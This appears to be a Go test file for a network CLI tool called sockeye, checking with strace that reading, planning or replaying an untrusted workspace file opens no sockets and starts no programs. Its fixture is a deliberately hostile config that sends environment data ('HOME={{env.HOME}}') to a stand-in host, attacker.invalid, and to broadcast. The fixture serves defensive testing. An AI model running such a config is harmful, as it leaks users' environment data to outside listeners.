package cli

import (
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"sockeye/internal/terminal"
)

// hostileWorkspace is a file as somebody might send it: it would listen, dial by name
// and by address, send to everybody and read the environment, all by itself.
const hostileWorkspace = `sockeye = 2
[payloads]
steal = 'HOME={{env.HOME}}'
[[endpoint]]
name = "in"
listen = "tcp://0.0.0.0:0"
frame = "line"
rules = "all"
[[endpoint]]
name = "out"
connect = "tcp://127.0.0.1:9"
rules = "all"
reconnect = true
[[endpoint]]
name = "name"
connect = "udp://attacker.invalid:9"
rules = "all"
send = "boot"
[[endpoint]]
name = "everybody"
connect = "udp://255.255.255.255:9"
broadcast = true
rules = "all"
[[rules.all]]
join = true
payload = "steal"
[[rules.all]]
every = "1ms"
payload = "steal"
[[rules.all]]
match = "any"
reply = '{{match}}'
[lists.boot]
times = 0
[[lists.boot.row]]
delay = "1ms"
payload = "steal"
`

// T48: Reading somebody else's file or recording opens no socket, asks no name server and
// starts no program, as the system itself counts it.
func TestReadingOpensNothing(t *testing.T) {
	dir := t.TempDir()
	file, recording := filepath.Join(dir, "hostile.toml"), filepath.Join(dir, "recording")
	if err := os.WriteFile(file, []byte(hostileWorkspace), 0o600); err != nil {
		t.Fatal(err)
	}
	pc := serve(t, "listen", "127.0.0.1:0", "--once", "--record", recording)
	run(t, "sockeye", "connect", pc.local(t).String(), "--send", "hello\\n", "--timeout", "1").ends(0)
	pc.stop(t, nil, 0)

	for _, c := range []struct {
		name string
		code int
		says string
		args []string
	}{
		{"plan", 0, "listen on tcp://0.0.0.0:0", []string{"run", file, "--plan", "--env"}},
		{"run", terminal.ExitOther, "--yes does it", []string{"run", file}},
		{"try", 0, "hello", []string{"rule", "try", file, "--endpoint", "in", "hello"}},
		{"try recording", 0, "hello", []string{"rule", "try", file, "--endpoint", "in", "--recording", recording}},
		{"show", 0, "hello", []string{"log", "show", recording}},
		{"export", 0, "hello", []string{"log", "export", recording, "--format", "csv"}},
		{"verify", 0, "", []string{"log", "verify", recording}},
		{"ls", 0, "", []string{"log", "ls", recording}},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			calls := filepath.Join(t.TempDir(), "calls")
			cmd := command(t, "strace", append([]string{"-f", "-qq", "-o", calls, "-e", "trace=%network,execve,execveat", "sockeye"}, c.args...)...)
			out, err := cmd.CombinedOutput()
			code := 0
			if e, ok := errors.AsType[*exec.ExitError](err); ok {
				code = e.ExitCode()
			} else if err != nil {
				t.Fatal(err)
			}
			if code != c.code || !strings.Contains(string(out), c.says) {
				t.Fatalf("code %d, want %d and %q:\n%s", code, c.code, c.says, out)
			}
			text, err := os.ReadFile(calls)
			if err != nil {
				t.Fatal(err)
			}
			programs := 0
			for line := range strings.Lines(string(text)) {
				switch {
				case strings.Contains(line, "execve"):
					programs++
				case strings.Contains(line, "("):
					t.Errorf("it called %s", line)
				}
			}
			if programs != 1 {
				t.Errorf("%d programs were started, want only sockeye itself", programs)
			}
		})
	}
}
